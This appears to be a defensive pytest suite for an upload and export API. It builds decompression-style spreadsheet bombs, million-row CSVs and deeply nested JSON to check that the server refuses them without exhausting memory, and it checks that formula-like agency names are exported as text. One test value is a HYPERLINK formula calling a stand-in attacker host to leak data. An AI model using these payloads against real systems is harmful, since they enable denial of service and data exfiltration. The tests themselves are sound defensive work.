"""Hostile files against the running API: each is refused with a 4xx that names the limit, the
API's memory stays flat, and a read of another route stays answered while the file is looked at.

The figures (API RSS increase, parse workers' RSS, slowest concurrent read) are printed for the
record (pytest -s); the bounds asserted are generous, as the machine running the suite is shared.
"""

from __future__ import annotations

import csv
import io
import re
import statistics
import threading
import time
import uuid
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
from openpyxl import Workbook, load_workbook

from shared.domain.auth import Scope, mint
from tests.conftest import TEST_SECRET, Namespace

from .system import System, start_system

KIND = "study_session"
# the columns of the study_session upload template, by field name (what the template's headers end with)
HEADER = [
    "report_id",
    "revision",
    "unit",
    "period",
    "resolution",
    "held_on",
    "format",
    "bridge_points",
    "delegates",
    "members_attended",
    "members_total",
]
API_RSS_BOUND_MB = 200  # the unbounded reader took 738 MB for a 1.5 KB file; a bounded one takes a few
MAX_READ_SECONDS = 1.5  # the unbounded reader stalled every route 1.8-14.6 s


@pytest.fixture(scope="module")
def stack(infra: dict[str, str]) -> Iterator[System]:
    from tools.topics import create_topics

    namespace = Namespace(uuid.uuid4().hex[:8], infra)
    create_topics(infra["KAFKA_BOOTSTRAP_SERVERS"], 4, namespace.env)
    system = start_system(namespace, aggregators=0)
    yield system
    system.stop()


@pytest.fixture
def web(stack: System) -> Iterator[httpx.Client]:
    """A web session of province 38 that may submit, as the upload page's script uses it."""
    url = stack.api.url
    with httpx.Client(base_url=url, headers={"Origin": url}, timeout=120, follow_redirects=False) as client:
        proof = re.search(r'name="csrf" value="([^"]+)"', client.get("/web/login").text)
        token = mint(TEST_SECRET, "38", [Scope.READ, Scope.SUBMIT], 3600)
        answer = client.post("/web/login", data={"token": token, **({"csrf": proof.group(1)} if proof else {})})
        assert answer.status_code == 303, answer.text
        meta = re.search(r'name="csrf-token" content="([^"]+)"', client.get("/web/upload").text)
        if meta:  # the pages' CSRF token, sent as their script sends it
            client.headers["X-CSRF-Token"] = meta.group(1)
        yield client


def _rss_mb(pid: int) -> float:
    try:
        for line in Path(f"/proc/{pid}/status").read_text().splitlines():
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    except OSError:
        pass
    return 0.0


def _children(pid: int) -> list[int]:
    kids: list[int] = []
    for task in Path(f"/proc/{pid}/task").glob("*"):
        try:
            kids += [int(k) for k in (task / "children").read_text().split()]
        except OSError:
            continue
    return kids


@dataclass
class Watch:
    """Samples the API's RSS (and its children's: the parse workers) and times reads of another
    route, in threads, while the upload is posted."""

    pid: int
    url: str
    token: str
    baseline_mb: float = 0.0
    peak_mb: float = 0.0
    children_peak_mb: float = 0.0
    reads: list[float] = field(default_factory=list)
    statuses: set[int] = field(default_factory=set)
    _stop: threading.Event = field(default_factory=threading.Event)

    def __enter__(self) -> Watch:
        self.baseline_mb = statistics.median(_rss_mb(self.pid) for _ in range(5))
        self.peak_mb = self.baseline_mb
        self._threads = [threading.Thread(target=self._sample), threading.Thread(target=self._read)]
        for t in self._threads:
            t.start()
        time.sleep(0.3)  # a few reads before the upload starts
        return self

    def __exit__(self, *exc: Any) -> None:
        time.sleep(0.3)
        self._stop.set()
        for t in self._threads:
            t.join()

    def _sample(self) -> None:
        while not self._stop.is_set():
            self.peak_mb = max(self.peak_mb, _rss_mb(self.pid))
            self.children_peak_mb = max(self.children_peak_mb, sum(_rss_mb(k) for k in _children(self.pid)))
            time.sleep(0.01)

    def _read(self) -> None:
        headers = {"Authorization": f"Bearer {self.token}"}
        with httpx.Client(base_url=self.url, headers=headers, timeout=60) as http:
            while not self._stop.is_set():
                start = time.monotonic()
                answer = http.get("/v1/units/38/totals", params={"period": "2020-12"})
                self.reads.append(time.monotonic() - start)
                self.statuses.add(answer.status_code)
                time.sleep(0.02)

    @property
    def increase_mb(self) -> float:
        return self.peak_mb - self.baseline_mb

    @property
    def slowest_read(self) -> float:
        return max(self.reads, default=0.0)


def watched(stack: System, post: Callable[[], httpx.Response]) -> tuple[httpx.Response, Watch, float]:
    assert stack.api.pid is not None
    with Watch(stack.api.pid, stack.api.url, stack.token("38", Scope.READ)) as watch:
        start = time.monotonic()
        answer = post()
        took = time.monotonic() - start
    return answer, watch, took


def _cells(values: list[str]) -> str:
    return "".join(f'<c t="inlineStr"><is><t>{v}</t></is></c>' for v in values)


def xlsx(rows_xml: str, dimension: str) -> bytes:
    """An .xlsx made by openpyxl whose sheet is replaced by the given rows (cells without
    coordinates, as a hand-made file may have them) and declared dimension."""
    book = Workbook()
    assert book.active is not None
    book.active.title = "Bao cao"
    made = io.BytesIO()
    book.save(made)
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f'<dimension ref="{dimension}"/><sheetData><row r="1">{_cells(HEADER)}</row>{rows_xml}</sheetData></worksheet>'
    )
    out = io.BytesIO()
    with zipfile.ZipFile(made) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as dst:
        for item in src.infolist():
            data = sheet.encode() if item.filename == "xl/worksheets/sheet1.xml" else src.read(item)
            dst.writestr(item.filename, data)
    return out.getvalue()


def dimension_bomb() -> bytes:
    """A file of a few KB whose sheet says it spans A1:XFD6000 (98 million cells), with its
    header and an empty row 6,000: a reader that pads rows to the declared width makes them all."""
    return xlsx('<row r="6000"/>', "A1:XFD6000")


def many_rows_zip() -> bytes:
    """400,000 rows that deflate to a few hundred KB."""
    row = "<row>" + _cells(["", "", "14923", "2020-12"]) + "</row>"
    return xlsx(row * 400_000, "A1:D400001")


def million_row_csv() -> bytes:
    """1,000,000 rows in 3 MB, under the 4 MB an upload may be."""
    return ("unit,period\n" + "1,\n" * 1_000_000).encode()


def long_field_csv() -> bytes:
    return (",".join(HEADER) + "\n" + ",,14923," + "9" * 200_000 + "\n").encode()


HOSTILE_FILES: dict[str, tuple[str, Callable[[], bytes], tuple[str, ...]]] = {
    # name: (file name, content, words one of which the refusal must contain)
    "xlsx declaring A1:XFD6000": ("bomb.xlsx", dimension_bomb, ("XFD6000", "cột", "dòng")),
    "xlsx of 400,000 rows": ("rows.xlsx", many_rows_zip, ("dòng", "giải nén")),
    "csv of 1,000,000 rows": ("rows.csv", million_row_csv, ("dòng",)),
    "csv with a 200 KB field": ("field.csv", long_field_csv, ("ô", "ký tự")),
}


@pytest.mark.parametrize("name", list(HOSTILE_FILES))
def test_a_hostile_file_is_refused_with_the_limit_named_and_reads_stay_answered(stack, web, name):
    filename, make, words = HOSTILE_FILES[name]
    content = make()

    def post() -> httpx.Response:
        return web.post("/web/upload/check", data={"kind": KIND}, files={"file": (filename, content)})

    answer, watch, took = watched(stack, post)
    print(
        f"\n{name} ({len(content):,} bytes): {answer.status_code} in {took:.2f} s; API RSS +{watch.increase_mb:.0f} MB"
        f" (workers' peak {watch.children_peak_mb:.0f} MB); {len(watch.reads)} reads, slowest"
        f" {watch.slowest_read:.3f} s, median {statistics.median(watch.reads or [0]):.3f} s; {answer.text[:200]}"
    )
    assert answer.status_code in (400, 413, 422), answer.text
    detail = answer.json()["detail"]
    assert any(w in detail for w in words), detail
    assert watch.statuses <= {200, 404}, watch.statuses
    assert watch.increase_mb < API_RSS_BOUND_MB
    assert watch.slowest_read < MAX_READ_SECONDS


def test_an_unclosed_json_array_to_upload_send_is_a_400_that_says_so(stack, web):
    answer, watch, took = watched(
        stack,
        lambda: web.post("/web/upload/send", content=b"[" * 100_000, headers={"Content-Type": "application/json"}),
    )
    print(f"\n'[' x 100,000: {answer.status_code} in {took:.2f} s; slowest read {watch.slowest_read:.3f} s")
    print(answer.text)
    assert answer.status_code == 400, answer.text
    assert "JSON" in answer.json()["detail"]


@pytest.mark.parametrize("path", ["/v1/reports", "/v1/reports/batch"])
def test_ingest_answers_json_nested_too_deep_with_a_400(stack, path):
    with stack.client(stack.ingest.url, stack.token("38", Scope.SUBMIT)) as http:
        answer = http.post(path, content=b"[" * 100_000, headers={"Content-Type": "application/json"})
    assert answer.status_code == 400 and "nested too deep" in answer.json()["detail"], answer.text


def test_a_real_file_of_a_few_thousand_rows_is_read_while_others_upload(stack, web):
    """Several uploads at once are parsed off the event loop: reads stay answered, and each file
    is either read or refused as busy (503), never half-read."""
    row = "<row>" + _cells(["", "", "14923", "2020-12", "", "25/12/2020", "online", "1", "0", "10", "20"]) + "</row>"
    content = xlsx(row * 3000, "A1:K3001")
    answers: list[httpx.Response] = []

    def post_many() -> httpx.Response:
        def one() -> None:
            answers.append(web.post("/web/upload/check", data={"kind": KIND}, files={"file": ("a.xlsx", content)}))

        threads = [threading.Thread(target=one) for _ in range(4)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        return answers[0]

    _, watch, took = watched(stack, post_many)
    codes = sorted(a.status_code for a in answers)
    print(
        f"\n4 x 3,000-row xlsx at once: {codes} in {took:.2f} s; API RSS +{watch.increase_mb:.0f} MB"
        f" (workers' peak {watch.children_peak_mb:.0f} MB); slowest read {watch.slowest_read:.3f} s"
    )
    read = [a for a in answers if a.status_code == 200]
    assert read and all(a.status_code in (200, 503) for a in answers), codes
    assert all(len(a.json()["rows"]) == 3000 for a in read)
    assert watch.slowest_read < MAX_READ_SECONDS


FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?leak","Xem")', "+1+1", "-2+3", "@SUM(A1)", "＝1+1"]


def test_agency_names_that_look_like_formulas_are_exported_as_text(stack, web):
    with stack.client(stack.api.url) as admin:
        for i, name in enumerate(FORMULA_NAMES):
            answer = admin.post("/v1/admin/agencies", json={"code": f"38-formula{i}", "name": name, "parent": "38"})
            assert answer.status_code in (200, 201), answer.text
    params = {"period": "2020-12", "series": "study_session"}
    as_csv = web.get("/web/units/38/export.csv", params=params)
    assert as_csv.status_code == 200, as_csv.text
    names = [row[1] for row in csv.reader(io.StringIO(as_csv.content.decode("utf-8-sig")))]
    print(f"\nCSV names: {[n for n in names if n.lstrip(chr(39))[:1] in '=+-@＝']}")
    assert all("'" + name in names for name in FORMULA_NAMES), names
    assert not any(name in names for name in FORMULA_NAMES)
    as_xlsx = web.get("/web/units/38/export.xlsx", params=params)
    assert as_xlsx.status_code == 200, as_xlsx.text
    with zipfile.ZipFile(io.BytesIO(as_xlsx.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    print(f"formula cells in the .xlsx: {sheet_xml.count('<f>')}")
    assert "<f>" not in sheet_xml
    sheet = load_workbook(io.BytesIO(as_xlsx.content)).active
    cells = {c.value: c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)}
    assert all(cells[name].data_type == "s" and cells[name].quotePrefix for name in FORMULA_NAMES)
